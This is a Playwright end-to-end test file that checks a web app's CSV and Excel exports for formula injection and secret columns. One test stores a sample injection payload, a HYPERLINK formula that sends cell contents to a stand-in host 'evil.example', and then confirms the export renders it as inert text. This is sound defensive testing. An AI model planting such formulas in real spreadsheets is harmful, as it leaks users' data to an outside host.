import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from './fixtures';
import { dataRows, goInApp, parseCsv, shot, signInAsAdmin } from './helpers';
import { openInCalc, soffice } from '../support/calc';

const FORMULA_USER = {
  firstName: '=SUM(1+2)',
  lastName: 'Formula',
  email: 'formula.e2e@example.com',
  privilege: 'customer_care_agent',
  password: 'formula-pass-1',
};

test.describe('CSV export', () => {
  test("the users export is UTF-8 with a BOM, has English headers and no secret columns, one row per listed user, and a name starting with '=' comes out as '=…", async ({
    page,
  }) => {
    await signInAsAdmin(page);

    // A user whose first name would run as a formula in a spreadsheet, created through the (fake) API
    // with the admin's stored token.
    const status = await page.evaluate(async (user) => {
      const response = await fetch('/api/v1/system-user?lang=en', {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          accept: 'application/json',
          authorization: localStorage.getItem('token') ?? '',
        },
        body: JSON.stringify(user),
      });
      return response.status;
    }, FORMULA_USER);
    expect(status).toBe(201);

    await page.goto('/users');
    await expect(dataRows(page).first()).toBeVisible();
    const range = page.getByText(/^\d+-\d+ of \d+$/);
    await expect(range).toBeVisible();
    const listed = Number((await range.textContent())!.split(' of ')[1]);
    expect(listed).toBeGreaterThan(100);

    await page.getByRole('textbox', { name: 'Search' }).fill(FORMULA_USER.email);
    await expect(dataRows(page)).toHaveCount(1);
    await expect(dataRows(page).first()).toContainText(`${FORMULA_USER.firstName} ${FORMULA_USER.lastName}`);
    await page.getByRole('textbox', { name: 'Search' }).fill('');
    await expect(page.getByText(`of ${listed}`, { exact: false })).toBeVisible();

    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('system-users.csv');
    const bytes = await readFile(await download.path());
    await shot(page, 'users-export');

    // The byte-order mark, once, then the header.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(false);

    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(
      expect.arrayContaining(['First name', 'Last name', 'Email', 'Privilege', 'Active', 'Archived']),
    );
    for (const column of header) expect(column).not.toMatch(/password|token|hash/i);

    expect(rows).toHaveLength(listed);
    for (const row of rows) expect(row).toHaveLength(header.length);
    const email = header.indexOf('Email');
    const firstName = header.indexOf('First name');
    const byEmail = new Map(rows.map((row) => [row[email], row]));
    expect(byEmail.get('admin@example.com')?.[firstName]).toBe('Amal');
    expect(byEmail.get('agent@example.com')?.[header.indexOf('Privilege')]).toBe('Customer Care Agent');
    expect(byEmail.get(FORMULA_USER.email)?.[firstName]).toBe(`'${FORMULA_USER.firstName}`);
    // No cell anywhere starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});

test.describe('Excel export', () => {
  test.skip(
    !soffice && !process.env.CI,
    'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
  );

  test('the settings saved as Excel from the Export menu open in LibreOffice with the phone as "+966…" text and a formula-like value as text, no apostrophe, no formula', async ({
    page,
  }) => {
    await signInAsAdmin(page);
    // A value a spreadsheet would run, saved through the (fake) API with the admin's stored token.
    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
    const status = await page.evaluate(async (value) => {
      const response = await fetch('/api/v1/settings/e2e_formula?lang=en', {
        method: 'PATCH',
        headers: {
          'content-type': 'application/json',
          accept: 'application/json',
          authorization: localStorage.getItem('token') ?? '',
        },
        body: JSON.stringify({ value }),
      });
      return response.status;
    }, FORMULA);
    expect(status).toBe(200);

    await goInApp(page, '/settings');
    await expect(dataRows(page).filter({ hasText: 'support_phone' })).toContainText('+966');
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'File formats' }).click();
    await page.getByRole('menuitem', { name: 'Excel (.xlsx)' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('settings.xlsx');

    const dir = await mkdtemp(join(tmpdir(), 'xlsx-calc-'));
    try {
      const input = join(dir, 'settings.xlsx');
      await download.saveAs(input);
      // Calc writes the sheet indented: the markup between elements is left out.
      const sheet = (await openInCalc(input, dir)).replace(/>\s+</g, '><');
      const cell = (text: string) =>
        `<table:table-cell office:value-type="string" calcext:value-type="string"><text:p>${text}</text:p></table:table-cell>`;
      const row = (key: string) =>
        sheet.match(new RegExp(`<table:table-row[^>]*>${cell(key)}(.*?)</table:table-row>`))?.[1];
      expect(row('support_phone')).toMatch(new RegExp(`^${cell('\\+966\\d+')}$`));
      expect(row('e2e_formula')).toBe(cell(FORMULA.replace(/&/g, '&amp;').replace(/"/g, '&quot;')));
      expect(sheet).not.toContain('table:formula');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
